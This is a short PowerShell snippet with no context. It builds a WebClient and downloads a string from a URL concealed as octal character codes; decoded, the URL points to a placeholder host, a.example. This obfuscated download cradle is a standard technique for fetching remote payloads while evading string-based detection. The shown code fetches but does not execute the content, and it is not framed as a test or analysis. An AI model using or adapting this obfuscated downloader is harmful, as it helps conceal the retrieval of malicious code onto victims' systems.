$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ('150 164 164 160 72 57 57 141 56 145 170 141 155 160 154 145 57 160 57 170 56 164 170 164' -split ' ' | %{[char][convert]::ToInt16($_,8)})))
